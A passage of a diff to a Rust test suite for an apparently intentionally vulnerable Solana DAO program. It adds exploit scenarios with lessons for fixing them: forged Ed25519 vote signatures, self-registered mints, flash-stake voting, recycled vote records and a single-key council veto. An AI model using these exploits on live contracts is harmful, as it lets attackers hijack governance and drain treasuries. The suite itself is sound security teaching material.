+        Self::send_claim(state)
+    }
+
+    fn assert_impact(&self, state: &mut SeasonState) -> u64 {
+        let reward_pool = state.reward_pool;
+        let attacker_balance = state.dao.token_balance(&state.attacker_token_account);
+        let treasury_balance = state.dao.token_balance(&state.dao.treasury_token_account);
+        assert_eq!(attacker_balance, 5 * reward_pool, "Attacker paid the pool five times");
+        assert_eq!(treasury_balance, 100_000_000 + reward_pool - 5 * reward_pool);
+
+        println!("[EXPLOIT] SUCCESS: Attacker received {} from a {} pool", attacker_balance, reward_pool);
+        println!("[EXPLOIT] Treasury left with {} of 100 tokens staked principal", treasury_balance);
+        println!("[VULNERABILITY] Season rewards claimable without limit, paid from principal");
+
+        // Everything beyond the attacker's one legitimate share
+        attacker_balance - reward_pool
+    }
 }
 
-// Test 5: Demonstrate Member rank can downvote vulnerability
 #[test]
-fn test_exploit_member_can_downvote() {
-    let mut svm = setup_svm();
-    let admin = create_funded_account(&mut svm, 10_000_000_000);
-    let member = create_funded_account(&mut svm, 10_000_000_000);
-    let target = create_funded_account(&mut svm, 10_000_000_000);
-
-    let mint = CreateMint::new(&mut svm, &admin)
-        .decimals(DECIMALS)
-        .send()
-        .unwrap();
-
-    let member_token_account = CreateAssociatedTokenAccount::new(&mut svm, &admin, &mint)
-        .owner(&member.pubkey())
-        .send()
-        .unwrap();
-
-    MintTo::new(&mut svm, &admin, &mint, &member_token_account, 1_000_000)
-        
-        .send()
-        .unwrap();
-
-    let (config_pda, _) = derive_config_pda(&admin.pubkey());
-    let init_dao_ix = init_dao_instruction(
-        &admin.pubkey(),
-        &admin.pubkey(),
-        &config_pda,
-        10,
-        &mint,
-        5,
-    );
-
-    let tx = Transaction::new_signed_with_payer(
-        &[init_dao_ix],
-        Some(&admin.pubkey()),
-        &[&admin],
-        svm.latest_blockhash(),
-    );
-    svm.send_transaction(tx).unwrap();
-
-    let (treasury_pda, _) = derive_treasury_pda(&admin.pubkey());
-    let (treasury_authority, _) = derive_treasury_authority_pda(&config_pda, &admin.pubkey());
-    let treasury_token_account = get_associated_token_address(&treasury_authority, &mint);
+fn test_exploit_season_reward_double_claim() {
+    run_exploit(&SeasonRewardDoubleClaim);
+}
 
-    let init_treasury_ix = initialize_treasury_instruction(
-        &admin.pubkey(),
-        &admin.pubkey(),
-        &config_pda,
-        &treasury_pda,
-        &treasury_authority,
-        &treasury_token_account,
-        &mint,
-    );
+// Attacker with a profile and a mint they control, alongside an honest staker
+struct MintRegistrationState {
+    dao: DaoScenario,
+    attacker: Keypair,
+    attacker_profile: Pubkey,
+    attacker_mint: Pubkey,
+    attacker_token_account: Pubkey,
+    staker_profile: Pubkey,
+}
 
-    let tx = Transaction::new_signed_with_payer(
-        &[init_treasury_ix],
-        Some(&admin.pubkey()),
-        &[&admin],
-        svm.latest_blockhash(),
-    );
-    svm.send_transaction(tx).unwrap();
+// Test 17: Demonstrate unauthorized mint registration
+// add_supported_mint never checks config.admin, so an attacker lists their own
+// mint at the maximum weight and mints themselves voting power
+struct UnauthorizedMintRegistration;
+
+impl ExploitScenario for UnauthorizedMintRegistration {
+    type State = MintRegistrationState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V017",
+            title: "Unauthorized Mint Registration",
+            severity: Severity::Critical,
+            lesson: "Check the signer against config.admin before registering a stakeable mint",
+        }
+    }
+
+    fn setup(&self) -> MintRegistrationState {
+        let mut dao = setup_dao_scenario(10);
+        let staker = create_funded_account(&mut dao.svm, 10_000_000_000);
+        let attacker = create_funded_account(&mut dao.svm, 10_000_000_000);
+
+        println!("[Setup] Staker: {}", staker.pubkey());
+        println!("[Setup] Attacker: {}", attacker.pubkey());
+
+        let staker_token_account = dao.fund_tokens(&staker.pubkey(), 100_000_000);
+        let (_, staker_profile) = dao.create_profile(&staker, "staker");
+        let (_, attacker_profile) = dao.create_profile(&attacker, "attacker");
+
+        dao.stake(&staker, &staker_profile, &staker_token_account, 100_000_000).unwrap();
+        println!("[Step 1] Staker staked 100 governance tokens");
+
+        // Worthless mint, fully controlled by the attacker
+        let attacker_mint = CreateMint::new(&mut dao.svm, &attacker)
+            .decimals(DECIMALS)
+            .send()
+            .unwrap();
+        let attacker_token_account = CreateAssociatedTokenAccount::new(&mut dao.svm, &attacker, &attacker_mint)
+            .owner(&attacker.pubkey())
+            .send()
+            .unwrap();
+        MintTo::new(&mut dao.svm, &attacker, &attacker_mint, &attacker_token_account, 100_000_000)
+            .send()
+            .unwrap();
+        println!("[Step 2] Attacker minted 100 tokens of their own mint");
+
+        MintRegistrationState {
+            dao,
+            attacker,
+            attacker_profile,
+            attacker_mint,
+            attacker_token_account,
+            staker_profile,
+        }
+    }
+
+    fn exploit(&self, state: &mut MintRegistrationState) -> TransactionResult {
+        let dao = &mut state.dao;
+        let attacker = state.attacker.pubkey();
+        let (supported_mint, _) = derive_supported_mint_pda(&dao.config_pda, &state.attacker_mint);
+        let treasury_token_account =
+            get_associated_token_address(&dao.treasury_authority, &state.attacker_mint);
+
+        // EXPLOIT: Register the attacker's mint at 5x without being admin
+        // In secure version this fails with UnauthorizedAdmin
+        println!("\n[EXPLOIT] Attacker registers their own mint at 50,000 bps");
+        let register_ix = add_supported_mint_instruction(
+            &attacker,
+            &dao.admin.pubkey(),
+            &dao.config_pda,
+            &dao.treasury_pda,
+            &dao.treasury_authority,
+            &state.attacker_mint,
+            &supported_mint,
+            &treasury_token_account,
+            50_000,
+        );
+        let result = dao.send(register_ix, &state.attacker);
+        assert!(result.is_ok(), "VULNERABILITY: Non-admin registered a supported mint");
+
+        println!("[EXPLOIT] Attacker stakes 100 of the worthless tokens");
+        let (mint_stake, _) = derive_mint_stake_pda(&dao.config_pda, &state.attacker_mint, &attacker);
+        let stake_ix = stake_supported_mint_instruction(
+            &attacker,
+            &dao.admin.pubkey(),
+            &dao.config_pda,
+            &dao.treasury_pda,
+            &state.attacker_profile,
+            &state.attacker_mint,
+            &state.attacker_token_account,
+            &treasury_token_account,
+            &supported_mint,
+            &mint_stake,
+            100_000_000,
+        );
+        dao.send(stake_ix, &state.attacker)
+    }
+
+    fn assert_impact(&self, state: &mut MintRegistrationState) -> u64 {
+        let attacker_power = get_weighted_stake(&state.dao.svm, &state.attacker_profile);
+        let staker_power = get_stake_amount(&state.dao.svm, &state.staker_profile);
+        assert_eq!(attacker_power, 500_000_000, "Attacker tokens counted at 5x");
+        assert_eq!(staker_power, 100_000_000);
+
+        println!("[EXPLOIT] SUCCESS: Attacker holds {} voting power", attacker_power);
+        println!("[EXPLOIT] Honest staker holds {} from real governance tokens", staker_power);
+        println!("[VULNERABILITY] Anyone can list a self-minted token and outvote the DAO");
+
+        attacker_power
+    }
+}
 
-    let (member_registry, _) = derive_user_registry_pda("member");
-    let (member_profile, _) = derive_user_profile_pda(&member.pubkey());
+#[test]
+fn test_exploit_unauthorized_mint_registration() {
+    run_exploit(&UnauthorizedMintRegistration);
+}
 
-    let create_member_profile_ix =
-        create_profile_instruction(&member.pubkey(), &member_registry, &member_profile, "member");
+// Victim with stake who never voted, an open proposal the victim never signed for
+struct VoteBatchState {
+    dao: DaoScenario,
+    attacker: Keypair,
+    victim: Keypair,
+    proposal_pda: Pubkey,
+}
 
-    let tx = Transaction::new_signed_with_payer(
-        &[create_member_profile_ix],
-        Some(&member.pubkey()),
-        &[&member],
-        svm.latest_blockhash(),
-    );
-    svm.send_transaction(tx).unwrap();
+// Test 18: Demonstrate a forged vote through submit_vote_batch
+// The Ed25519 instruction indices are never checked, so the precompile verifies
+// the attacker's own signature while the program reads the victim's key
+struct ForgedVoteBatchSignature;
+
+impl ExploitScenario for ForgedVoteBatchSignature {
+    type State = VoteBatchState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V018",
+            title: "Forged Vote Batch Signature",
+            severity: Severity::Critical,
+            lesson: "Require every Ed25519 instruction index to be u16::MAX before trusting its key and message",
+        }
+    }
+
+    fn setup(&self) -> VoteBatchState {
+        let mut dao = setup_dao_scenario_with(|admin, config, mint| {
+            init_dao_instruction_with_params(
+                admin,
+                admin,
+                config,
+                10,
+                mint,
+                5,
+                300,
+                5_000,
+                DEFAULT_UNBONDING_PERIOD,
+                DEFAULT_DECAY_RATE_BPS,
+                DEFAULT_DECAY_EPOCH_SECONDS,
+                DEFAULT_REWARD_RATE_PER_SEC,
+                DEFAULT_STAKE_RAMP_SECONDS,
+            )
+        });
+        let opponent = create_funded_account(&mut dao.svm, 10_000_000_000);
+        let victim = create_funded_account(&mut dao.svm, 10_000_000_000);
+        let attacker = create_funded_account(&mut dao.svm, 10_000_000_000);
+
+        println!("[Setup] Opponent: {}", opponent.pubkey());
+        println!("[Setup] Victim: {}", victim.pubkey());
+        println!("[Setup] Attacker (no stake): {}", attacker.pubkey());
+
+        let mut profiles = Vec::new();
+        for (user, username) in [(&opponent, "opponent"), (&victim, "victim")] {
+            let (_, profile) = dao.create_profile(user, username);
+            let token_account = dao.fund_tokens(&user.pubkey(), 1_000_000);
+            profiles.push((profile, token_account));
+        }
+        let (opponent_profile, opponent_token_account) = profiles[0];
+        let (victim_profile, victim_token_account) = profiles[1];
+
+        dao.stake(&opponent, &opponent_profile, &opponent_token_account, 100).unwrap();
+        dao.stake(&victim, &victim_profile, &victim_token_account, 250).unwrap();
+        println!("[Step 1] Opponent staked 100, victim staked 250");
+
+        advance_time(&mut dao.svm, 60);
+        let (proposal_pda, _) = derive_proposal_pda(&dao.config_pda, 0);
+        let create_proposal_ix = create_governance_proposal_instruction(
+            &opponent.pubkey(),
+            &dao.admin.pubkey(),
+            &dao.config_pda,
+            &opponent_profile,
+            &proposal_pda,
+            "Drain the treasury",
+        );
+        dao.send(create_proposal_ix, &opponent).unwrap();
+
+        let (opponent_ballot, _) = derive_ballot_pda(&proposal_pda, &opponent.pubkey());
+        let ballot_ix = cast_ballot_instruction(
+            &opponent.pubkey(),
+            &dao.admin.pubkey(),
+            &dao.config_pda,
+            &opponent_profile,
+            &proposal_pda,
+            &opponent_ballot,
+            false,
+        );
+        dao.send(ballot_ix, &opponent).unwrap();
+        println!("[Step 2] Proposal created, opponent votes against with 100 stake");
+
+        VoteBatchState { dao, attacker, victim, proposal_pda }
+    }
+
+    fn exploit(&self, state: &mut VoteBatchState) -> TransactionResult {
+        let dao = &mut state.dao;
+        let attacker = &state.attacker;
+        let victim = state.victim.pubkey();
+
+        // The vote the victim never signed: 250 in favor
+        let message = vote_message(&state.proposal_pda, true, 250);
+
+        // Instruction 0: a genuine signature over that message, by the attacker's key
+        let attacker_signature = attacker.sign_message(&message);
+        let carrier_ix = ed25519_instruction(&attacker.pubkey(), attacker_signature.as_ref(), &message, u16::MAX);
+
+        // Instruction 1: the victim's key and the same message, but every index
+        // points at instruction 0, so that is what the precompile verifies
+        // In secure version this fails with InvalidSignatureInstruction
+        let forged_ix = ed25519_instruction(&victim, &[0u8; 64], &message, 0);
+
+        println!("\n[EXPLOIT] Attacker relays a 250-weight vote in favor as the victim");
+        println!("[EXPLOIT] Ed25519 instruction reads its key and message from the attacker's instruction");
+        let batch_ix = submit_vote_batch_instruction(
+            &attacker.pubkey(),
+            &dao.admin.pubkey(),
+            &dao.config_pda,
+            &state.proposal_pda,
+            &[(victim, true, 250)],
+        );
+
+        dao.send_all(&[carrier_ix, forged_ix, batch_ix], attacker)
+    }
+
+    fn assert_impact(&self, state: &mut VoteBatchState) -> u64 {
+        let dao = &mut state.dao;
+
+        // The victim's real vote is now locked out by the forged ballot
+        let (victim_ballot, _) = derive_ballot_pda(&state.proposal_pda, &state.victim.pubkey());
+        assert!(dao.svm.get_account(&victim_ballot).is_some(), "Forged ballot recorded for the victim");
+
+        advance_time(&mut dao.svm, PROPOSAL_VOTING_PERIOD_SECONDS + 1);
+        dao.svm.expire_blockhash();
+
+        let admin = dao.admin.insecure_clone();
+        let finalize_ix = finalize_proposal_instruction(
+            &admin.pubkey(),
+            &admin.pubkey(),
+            &dao.config_pda,
+            &state.proposal_pda,
+        );
+        dao.send(finalize_ix, &admin).unwrap();
+
+        let (votes_for, votes_against, status) = get_proposal_tally(&dao.svm, &state.proposal_pda);
+        assert_eq!(votes_for, 250, "Victim's whole stake counted in favor");
+        assert_eq!(votes_against, 100);
+        assert_eq!(status, 1, "VULNERABILITY: Proposal passed on a forged vote");
+
+        println!("[EXPLOIT] SUCCESS: Tally {} for vs {} against - proposal passed", votes_for, votes_against);
+        println!("[VULNERABILITY] Attacker with no stake cast the victim's 250 votes");
+
+        votes_for
+    }
+}
 
-    let (target_registry, _) = derive_user_registry_pda("victim");
-    let (target_profile, _) = derive_user_profile_pda(&target.pubkey());
+#[test]
+fn test_exploit_forged_vote_batch_signature() {
+    run_exploit(&ForgedVoteBatchSignature);
+}
 
-    let create_target_profile_ix =
-        create_profile_instruction(&target.pubkey(), &target_registry, &target_profile, "victim");
+// DAO with an aged honest stake, an open proposal, and a flash staker
+struct StakeAgeState {
+    dao: DaoScenario,
+    attacker: Keypair,
+    attacker_profile: Pubkey,
+    proposal_pda: Pubkey,
+}
 
-    let tx = Transaction::new_signed_with_payer(
-        &[create_target_profile_ix],
-        Some(&target.pubkey()),
-        &[&target],
-        svm.latest_blockhash(),
-    );
-    svm.send_transaction(tx).unwrap();
+// Test 19: Demonstrate flash-staked tokens voting with full power
+// The DAO sets a stake age ramp, but effective power ignores it, so tokens
+// staked a second before a proposal outvote stake held for weeks
+struct FlashStakeVote;
+
+impl ExploitScenario for FlashStakeVote {
+    type State = StakeAgeState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V019",
+            title: "Flash Stake Voting",
+            severity: Severity::High,
+            lesson: "Ramp voting power with stake age so freshly staked tokens cannot swing a vote",
+        }
+    }
+
+    fn setup(&self) -> StakeAgeState {
+        // Stake should take 7 days to reach full voting power
+        let ramp_seconds: i64 = 7 * 24 * 3600;
+        let mut dao = setup_dao_scenario_with(|admin, config, mint| {
+            init_dao_instruction_with_params(
+                admin,
+                admin,
+                config,
+                10,
+                mint,
+                5,
+                300,
+                5_000,
+                DEFAULT_UNBONDING_PERIOD,
+                DEFAULT_DECAY_RATE_BPS,
+                DEFAULT_DECAY_EPOCH_SECONDS,
+                DEFAULT_REWARD_RATE_PER_SEC,
+                ramp_seconds,
+            )
+        });
+        let honest = create_funded_account(&mut dao.svm, 10_000_000_000);
+        let attacker = create_funded_account(&mut dao.svm, 10_000_000_000);
+
+        println!("[Setup] Honest voter: {}", honest.pubkey());
+        println!("[Setup] Attacker: {}", attacker.pubkey());
+
+        let (_, honest_profile) = dao.create_profile(&honest, "honest");
+        let honest_token_account = dao.fund_tokens(&honest.pubkey(), 1_000_000);
+        let (_, attacker_profile) = dao.create_profile(&attacker, "attacker");
+        // Tokens the attacker borrowed for the vote
+        let attacker_token_account = dao.fund_tokens(&attacker.pubkey(), 1_000_000);
+
+        dao.stake(&honest, &honest_profile, &honest_token_account, 500).unwrap();
+        advance_time(&mut dao.svm, ramp_seconds as u64);
+        println!("[Step 1] Honest voter staked 500 and held it for the full 7 day ramp");
+
+        // In secure version 1 second of age counts 1000 * 1 / 604800 = 0 votes
+        dao.stake(&attacker, &attacker_profile, &attacker_token_account, 1_000).unwrap();
+        advance_time(&mut dao.svm, 1);
+        println!("[Step 2] Attacker flash-stakes 1000 borrowed tokens one second before the proposal");
+
+        let (proposal_pda, _) = derive_proposal_pda(&dao.config_pda, 0);
+        let create_proposal_ix = create_governance_proposal_instruction(
+            &honest.pubkey(),
+            &dao.admin.pubkey(),
+            &dao.config_pda,
+            &honest_profile,
+            &proposal_pda,
+            "Keep treasury locked",
+        );
+        dao.send(create_proposal_ix, &honest).unwrap();
+
+        let (honest_ballot, _) = derive_ballot_pda(&proposal_pda, &honest.pubkey());
+        let ballot_ix = cast_ballot_instruction(
+            &honest.pubkey(),
+            &dao.admin.pubkey(),
+            &dao.config_pda,
+            &honest_profile,
+            &proposal_pda,
+            &honest_ballot,
+            false,
+        );
+        dao.send(ballot_ix, &honest).unwrap();
+        println!("[Step 3] Proposal created, honest voter votes against with 500 matured stake");
+
+        StakeAgeState {
+            dao,
+            attacker,
+            attacker_profile,
+            proposal_pda,
+        }
+    }
+
+    fn exploit(&self, state: &mut StakeAgeState) -> TransactionResult {
+        let dao = &mut state.dao;
+
+        // The attacker's stake predates the proposal, so the snapshot rule passes
+        // In secure version the 1-second-old stake is below the minimum stake in power
+        // In vulnerable version it counts in full
+        println!("\n[EXPLOIT] Attacker votes in favor with 1 second of stake age");
+        let (attacker_ballot, _) = derive_ballot_pda(&state.proposal_pda, &state.attacker.pubkey());
+        let ballot_ix = cast_ballot_instruction(
+            &state.attacker.pubkey(),
+            &dao.admin.pubkey(),
+            &dao.config_pda,
+            &state.attacker_profile,
+            &state.proposal_pda,
+            &attacker_ballot,
+            true,
+        );
+
+        dao.send(ballot_ix, &state.attacker)
+    }
+
+    fn assert_impact(&self, state: &mut StakeAgeState) -> u64 {
+        let dao = &mut state.dao;
+        advance_time(&mut dao.svm, PROPOSAL_VOTING_PERIOD_SECONDS + 1);
+        dao.svm.expire_blockhash();
+
+        let admin = dao.admin.insecure_clone();
+        let finalize_ix = finalize_proposal_instruction(
+            &admin.pubkey(),
+            &admin.pubkey(),
+            &dao.config_pda,
+            &state.proposal_pda,
+        );
+        dao.send(finalize_ix, &admin).unwrap();
+
+        let (votes_for, votes_against, status) = get_proposal_tally(&dao.svm, &state.proposal_pda);
+        assert_eq!(votes_for, 1_000, "Flash stake counted at full power");
+        assert_eq!(votes_against, 500);
+        assert_eq!(status, 1, "VULNERABILITY: Proposal passed on borrowed stake");
+
+        println!("[EXPLOIT] SUCCESS: Tally {} for vs {} against - proposal passed", votes_for, votes_against);
+        println!("[VULNERABILITY] Tokens staked 1 second before the proposal outvoted 7 days of stake");
+        println!("[VULNERABILITY] After the vote the attacker unstakes and returns the borrowed tokens");
+
+        votes_for
+    }
+}
 
-    let stake_ix = stake_tokens_instruction(
-        &member.pubkey(),
-        &admin.pubkey(),
-        &config_pda,
-        &treasury_pda,
-        &member_profile,
-        &mint,
-        &member_token_account,
-        &treasury_token_account,
-        100,
-    );
+#[test]
+fn test_exploit_flash_stake_vote() {
+    run_exploit(&FlashStakeVote);
+}
 
-    let tx = Transaction::new_signed_with_payer(
-        &[stake_ix],
-        Some(&member.pubkey()),
-        &[&member],
-        svm.latest_blockhash(),
-    );
-    svm.send_transaction(tx).unwrap();
+// DAO with a voter who has already upvoted the target once
+struct VoteRecyclingState {
+    dao: DaoScenario,
+    voter: Keypair,
+    voter_profile: Pubkey,
+    target_registry: Pubkey,
+    target_profile: Pubkey,
+    single_vote_reputation: i64,
+}
 
-    // EXPLOIT: Member rank (reputation 0) tries to downvote
-    // In secure version this would fail with CannotDownvote error (needs Bronze+)
-    // In vulnerable version this succeeds
-    let (vote_cooldown, _) = derive_vote_cooldown_pda(&member.pubkey());
-    let (vote_record, _) = derive_vote_record_pda(&member.pubkey(), "victim");
+// Test 20: Demonstrate vote records closed mid-season and voted again
+// The vote record is the only thing stopping a second vote on the same user,
+// and close_vote_record never checks that the season has rolled over
+struct VoteRecordRecycling;
+
+// Close-and-revote rounds, bounded by the voter's 4-entry vote history
+const RECYCLE_ROUNDS: usize = 3;
+
+impl ExploitScenario for VoteRecordRecycling {
+    type State = VoteRecyclingState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V020",
+            title: "Vote Record Recycling",
+            severity: Severity::High,
+            lesson: "Only close vote records once their season is over, or the vote they guard can be cast again",
+        }
+    }
+
+    fn setup(&self) -> VoteRecyclingState {
+        let mut dao = setup_dao_scenario(10);
+        let voter = create_funded_account(&mut dao.svm, 10_000_000_000);
+        let target = create_funded_account(&mut dao.svm, 10_000_000_000);
+
+        println!("[Setup] Voter: {}", voter.pubkey());
+        println!("[Setup] Target (voter's accomplice): {}", target.pubkey());
+
+        let voter_token_account = dao.fund_tokens(&voter.pubkey(), 1_000_000);
+        let (_, voter_profile) = dao.create_profile(&voter, "voter");
+        let (target_registry, target_profile) = dao.create_profile(&target, "target");
+        dao.stake(&voter, &voter_profile, &voter_token_account, 100).unwrap();
+
+        let (vote_cooldown, _) = derive_vote_cooldown_pda(&voter.pubkey());
+        let (vote_history, _) = derive_vote_history_pda(&voter.pubkey());
+        let (vote_record, _) = derive_vote_record_pda(&voter.pubkey(), "target");
+
+        let upvote_ix = upvote_instruction(
+            &voter.pubkey(),
+            &dao.admin.pubkey(),
+            &dao.config_pda,
+            &voter_profile,
+            &target_registry,
+            &target_profile,
+            &vote_cooldown,
+            &vote_record,
+            &vote_history,
+            "target",
+        );
+        dao.send(upvote_ix, &voter).unwrap();
+
+        let single_vote_reputation = get_reputation(&dao.svm, &target_profile);
+        println!("[Step 1] Voter upvotes target once: {} reputation", single_vote_reputation);
+
+        VoteRecyclingState {
+            dao,
+            voter,
+            voter_profile,
+            target_registry,
+            target_profile,
+            single_vote_reputation,
+        }
+    }
+
+    fn exploit(&self, state: &mut VoteRecyclingState) -> TransactionResult {
+        let dao = &mut state.dao;
+        let voter = &state.voter;
+        let (vote_cooldown, _) = derive_vote_cooldown_pda(&voter.pubkey());
+        let (vote_history, _) = derive_vote_history_pda(&voter.pubkey());
+        let (vote_record, _) = derive_vote_record_pda(&voter.pubkey(), "target");
+
+        // EXPLOIT: Close the vote record in the same season and vote again
+        // In secure version close_vote_record fails with VoteSeasonNotOver
+        // In vulnerable version each close frees the record for another upvote
+        println!("\n[EXPLOIT] Voter closes the vote record and upvotes again, {} times in one transaction", RECYCLE_ROUNDS);
+        let mut ixs = Vec::new();
+        for _ in 0..RECYCLE_ROUNDS {
+            ixs.push(close_vote_record_instruction(
+                &voter.pubkey(),
+                &dao.admin.pubkey(),
+                &dao.config_pda,
+                &vote_record,
+                "target",
+            ));
+            ixs.push(upvote_instruction(
+                &voter.pubkey(),
+                &dao.admin.pubkey(),
+                &dao.config_pda,
+                &state.voter_profile,
+                &state.target_registry,
+                &state.target_profile,
+                &vote_cooldown,
+                &vote_record,
+                &vote_history,
+                "target",
+            ));
+        }
+
+        dao.send_all(&ixs, voter)
+    }
+
+    fn assert_impact(&self, state: &mut VoteRecyclingState) -> u64 {
+        let reputation = get_reputation(&state.dao.svm, &state.target_profile);
+        let expected = state.single_vote_reputation * (RECYCLE_ROUNDS as i64 + 1);
+        assert_eq!(reputation, expected, "Every recycled vote counted again");
+
+        println!("[EXPLOIT] SUCCESS: Target reputation {} from one voter (a single vote is {})", reputation, state.single_vote_reputation);
+        println!("[VULNERABILITY] One voter upvoted the same user {} times in a season", RECYCLE_ROUNDS + 1);
+        println!("[VULNERABILITY] close_vote_record never compares the record's season with config.current_season");
+
+        (reputation - state.single_vote_reputation) as u64
+    }
+}
 
-    let downvote_ix = downvote_instruction(
-        &member.pubkey(),
-        &admin.pubkey(),
-        &config_pda,
-        &member_profile,
-        &target_registry,
-        &target_profile,
-        &vote_cooldown,
-        &vote_record,
-        "victim",
-    );
+#[test]
+fn test_exploit_vote_record_recycling() {
+    run_exploit(&VoteRecordRecycling);
+}
 
-    let tx = Transaction::new_signed_with_payer(
-        &[downvote_ix],
-        Some(&member.pubkey()),
-        &[&member],
-        svm.latest_blockhash(),
-    );
+// DAO with a three-key council (threshold 2) and a proposal the stakers passed
+struct RogueCouncilState {
+    dao: DaoScenario,
+    rogue_member: Keypair,
+    council: Pubkey,
+    proposal_pda: Pubkey,
+}
 
-    let result = svm.send_transaction(tx);
-    assert!(result.is_ok(), "VULNERABILITY: Member rank downvoted successfully");
+// Test 21: Demonstrate one council key vetoing a passed proposal alone
+// The council is configured as 2-of-3, but council_veto only checks that the
+// caller is a member, so a single compromised key overrides the DAO's vote
+struct RogueCouncilVeto;
+
+impl ExploitScenario for RogueCouncilVeto {
+    type State = RogueCouncilState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V021",
+            title: "Single-Key Council Override",
+            severity: Severity::High,
+            lesson: "Require the council's M-of-N signatures for every emergency action, not just membership",
+        }
+    }
+
+    fn setup(&self) -> RogueCouncilState {
+        let mut dao = setup_dao_scenario(10);
+        let voter = create_funded_account(&mut dao.svm, 10_000_000_000);
+        let rogue_member = create_funded_account(&mut dao.svm, 10_000_000_000);
+        let members = [rogue_member.pubkey(), Pubkey::new_unique(), Pubkey::new_unique()];
+
+        println!("[Setup] Voter: {}", voter.pubkey());
+        println!("[Setup] Rogue council member: {}", rogue_member.pubkey());
+
+        let admin = dao.admin.insecure_clone();
+        let (council, _) = derive_council_pda(&dao.config_pda);
+        let init_council_ix = init_council_instruction(
+            &admin.pubkey(),
+            &admin.pubkey(),
+            &dao.config_pda,
+            &council,
+            &members,
+            2,
+            24 * 3600,
+        );
+        dao.send(init_council_ix, &admin).unwrap();
+        println!("[Step 1] Admin sets up a 2-of-3 emergency council with a 1 day veto window");
+
+        // Enough stake to meet DEFAULT_QUORUM on its own
+        let voter_token_account = dao.fund_tokens(&voter.pubkey(), DEFAULT_QUORUM);
+        let (_, voter_profile) = dao.create_profile(&voter, "voter");
+        dao.stake(&voter, &voter_profile, &voter_token_account, DEFAULT_QUORUM).unwrap();
+        advance_time(&mut dao.svm, 1);
+
+        let (proposal_pda, _) = derive_proposal_pda(&dao.config_pda, 0);
+        let create_proposal_ix = create_governance_proposal_instruction(
+            &voter.pubkey(),
+            &admin.pubkey(),
+            &dao.config_pda,
+            &voter_profile,
+            &proposal_pda,
+            "Replace the council",
+        );
+        let (ballot, _) = derive_ballot_pda(&proposal_pda, &voter.pubkey());
+        let ballot_ix = cast_ballot_instruction(
+            &voter.pubkey(),
+            &admin.pubkey(),
+            &dao.config_pda,
+            &voter_profile,
+            &proposal_pda,
+            &ballot,
+            true,
+        );
+        dao.send_all(&[create_proposal_ix, ballot_ix], &voter).unwrap();
+
+        advance_time(&mut dao.svm, PROPOSAL_VOTING_PERIOD_SECONDS + 1);
+        let finalize_ix = finalize_proposal_instruction(
+            &admin.pubkey(),
+            &admin.pubkey(),
+            &dao.config_pda,
+            &proposal_pda,
+        );
+        dao.send(finalize_ix, &admin).unwrap();
+
+        let (_, _, status) = get_proposal_tally(&dao.svm, &proposal_pda);
+        assert_eq!(status, 1, "Proposal should pass");
+        println!("[Step 2] Stakers pass a proposal the rogue member wants gone");
+
+        RogueCouncilState {
+            dao,
+            rogue_member,
+            council,
+            proposal_pda,
+        }
+    }
+
+    fn exploit(&self, state: &mut RogueCouncilState) -> TransactionResult {
+        let dao = &mut state.dao;
+
+        // EXPLOIT: Veto with a single council signature
+        // In secure version council_veto fails with InsufficientCouncilSignatures
+        // In vulnerable version one member is enough
+        println!("\n[EXPLOIT] Rogue member vetoes the passed proposal alone");
+        let veto_ix = council_veto_instruction(
+            &state.rogue_member.pubkey(),
+            &dao.admin.pubkey(),
+            &dao.config_pda,
+            &state.council,
+            &state.proposal_pda,
+        );
+
+        dao.send(veto_ix, &state.rogue_member)
+    }
+
+    fn assert_impact(&self, state: &mut RogueCouncilState) -> u64 {
+        let (votes_for, _, status) = get_proposal_tally(&state.dao.svm, &state.proposal_pda);
+        assert_eq!(status, 3, "VULNERABILITY: Passed proposal vetoed by one key");
+
+        println!("[EXPLOIT] SUCCESS: Proposal with {} votes for is now Vetoed", votes_for);
+        println!("[VULNERABILITY] A 2-of-3 council acted on 1 signature");
+        println!("[VULNERABILITY] The same single key can also pause the whole DAO through council_set_pause");
+
+        // Governance is overridden, no funds move directly
+        0
+    }
 }
 
-// Test 6: Demonstrate username duplication vulnerability
-// Note: This might not work as expected because PDA prevents true duplicates
-// But the code doesn't check claimed flag properly
 #[test]
-fn test_duplicate_username_no_validation() {
-    let mut svm = setup_svm();
-    let user1 = create_funded_account(&mut svm, 10_000_000_000);
-    let user2 = create_funded_account(&mut svm, 10_000_000_000);
-
-    let username = "alice";
-    let (user_registry, _) = derive_user_registry_pda(username);
-    let (user1_profile, _) = derive_user_profile_pda(&user1.pubkey());
-
-    let create_profile_ix1 =
-        create_profile_instruction(&user1.pubkey(), &user_registry, &user1_profile, username);
+fn test_exploit_rogue_council_veto() {
+    run_exploit(&RogueCouncilVeto);
+}
 
-    let tx = Transaction::new_signed_with_payer(
-        &[create_profile_ix1],
-        Some(&user1.pubkey()),
-        &[&user1],
-        svm.latest_blockhash(),
-    );
-    svm.send_transaction(tx).unwrap();
+// DAO with an attacker whose vote escrow has just expired and a fresh proposal
+struct ExpiredLockState {
+    dao: DaoScenario,
+    attacker: Keypair,
+    attacker_profile: Pubkey,
+    attacker_token_account: Pubkey,
+    vote_escrow: Pubkey,
+    escrow_token_account: Pubkey,
+    proposal_pda: Pubkey,
+}
 
-    // Try to create second profile with same username but different user
-    // The registry PDA exists and claimed=true but vulnerable code overwrites it
-    let (user2_profile, _) = derive_user_profile_pda(&user2.pubkey());
+// Test 22: Demonstrate an expired lock voting on the slot clock
+// Escrow power decays by slots * 400 ms, but advance_time produces 500 ms
+// slots (slower validators, skipped slots), so the estimate runs 20% behind
+// and the lock still votes after unlock_at, right before its tokens leave
+struct SlotDriftLockVote;
+
+const LOCKED_AMOUNT: u64 = 100_000_000;
+
+impl ExploitScenario for SlotDriftLockVote {
+    type State = ExpiredLockState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V022",
+            title: "Slot-Clock Lock Decay",
+            severity: Severity::High,
+            lesson: "Decay vote-escrowed power by unix timestamp against the unlock time, never by slot count",
+        }
+    }
+
+    fn setup(&self) -> ExpiredLockState {
+        let mut dao = setup_dao_scenario(10);
+        let proposer = create_funded_account(&mut dao.svm, 10_000_000_000);
+        let attacker = create_funded_account(&mut dao.svm, 10_000_000_000);
+
+        println!("[Setup] Proposer: {}", proposer.pubkey());
